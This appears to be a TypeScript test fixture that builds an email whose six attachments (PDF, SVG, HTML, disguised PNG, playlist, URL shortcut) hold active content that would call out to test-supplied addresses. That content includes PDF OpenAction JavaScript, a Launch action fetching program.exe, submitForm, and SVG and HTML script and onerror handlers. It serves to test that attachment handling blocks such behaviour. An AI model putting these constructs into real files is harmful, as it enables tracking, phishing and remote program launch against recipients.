import type { Addresses } from "./vector.ts";

/** How many files the message has; the first of them is the document. */
export const ATTACHED = 6;
export const ATTACHED_SUBJECT = "What is attached";

/** A message whose files would each call somebody, run or lead away, if they were opened by what they were made for. */
export function attachmentTricks(to: Addresses): string[] {
  return [
    "Date: Fri, 20 Nov 2026 10:00:00 +0000",
    "From: Writer <writer@example.test>",
    "To: user1@example.test",
    "MIME-Version: 1.0",
    `Subject: ${ATTACHED_SUBJECT}`,
    'Content-Type: multipart/mixed; boundary="=b"',
    "",
    "--=b",
    "Content-Type: text/plain",
    "",
    "A text",
    ...attachment("paper.pdf", "application/pdf", documentWithActions(to)),
    ...attachment("drawing.svg", "image/svg+xml", drawing(to)),
    ...attachment("page.html", "text/html", page(to)),
    ...attachment("picture.png", "image/png", page(to)),
    ...attachment("list.m3u8", "application/vnd.apple.mpegurl", `#EXTM3U\n#EXTINF:9,\n${to.http("film.ts")}\n`),
    ...attachment(
      "place.url",
      "application/octet-stream",
      `[InternetShortcut]\r\nURL=${to.http("place")}\r\nIconFile=${to.http("icon.ico")}\r\n`,
    ),
    "--=b--",
    "",
  ];
}

function attachment(name: string, type: string, content: string): string[] {
  const disposition = `Content-Disposition: attachment; filename="${name}"`;
  return [
    "--=b",
    `Content-Type: ${type}`,
    disposition,
    "Content-Transfer-Encoding: base64",
    "",
    Buffer.from(content, "latin1").toString("base64"),
  ];
}

function drawing({ http, script }: Addresses): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" onload="${script}">
<script>${script}</script><style>@import "${http("a.css")}"; rect{fill:url(${http("b.svg")}#x)}</style>
<image href="${http("c.png")}" width="9" height="9"/><image xlink:href="${http("d.png")}" width="9" height="9"/><use href="${http("e.svg")}#x"/>
<foreignObject width="99" height="99"><img xmlns="http://www.w3.org/1999/xhtml" src="${http("f.png")}" onerror="${script}"/></foreignObject>
<a href="${http("g")}"><rect width="200" height="100"/></a></svg>`;
}

function page({ http, script }: Addresses): string {
  return `<!doctype html><link rel="preconnect" href="${http("")}"><script>${script}</script><img src="${http("a.png")}" onerror="${script}"><video poster="${http("b.png")}" src="${http("c.mp4")}" autoplay></video>`;
}

/** Scripts at its opening, a page that is sent elsewhere, a program to be started, pictures that lie elsewhere, and a link over all of the page. */
function documentWithActions({ http }: Addresses): string {
  const words = "BT /F 24 Tf 60 700 Td (A paper) Tj ET /X Do";
  const submit = `app.launchURL\\("${http("js")}"\\); this.submitForm\\("${http("submit")}"\\); this.getURL\\("${http("get")}"\\);`;
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >> /URI << /Base (" +
      `${http("base/")}) >> >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /AA << /O 6 0 R >> /Resources << /Font << /F 5 0 R >> /XObject << /X 9 0 R >> >> /Annots [7 0 R 8 0 R 10 0 R] >>",
    `<< /Length ${words.length} >>\nstream\n${words}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    `<< /S /JavaScript /JS (${submit}) /Next << /S /URI /URI (${http("next")}) >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${http("link")}) >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Btn /Rect [0 0 90 90] /AA << /E 6 0 R >> /A << /S /Launch /F << /FS /URL /F (${http("program.exe")}) >> >> >>`,
    `<< /Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${http("picture")}) >> /Length 0 >>\nstream\n\nendstream`,
    `<< /Type /Annot /Subtype /Screen /Rect [0 90 90 180] /AA << /PV 6 0 R >> /A << /S /GoToR /F << /FS /URL /F (${http("other.pdf")}) >> /D [0 /Fit] >> >>`,
  ];
  let out = "%PDF-1.7\n";
  const offsets = objects.map((body, at) => {
    const offset = out.length;
    out += `${at + 1} 0 obj\n${body}\nendobj\n`;
    return `${String(offset).padStart(10, "0")} 00000 n \n`;
  });
  const start = out.length;
  const size = objects.length + 1;
  return `${out}xref\n0 ${size}\n0000000000 65535 f \n${offsets.join("")}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
}
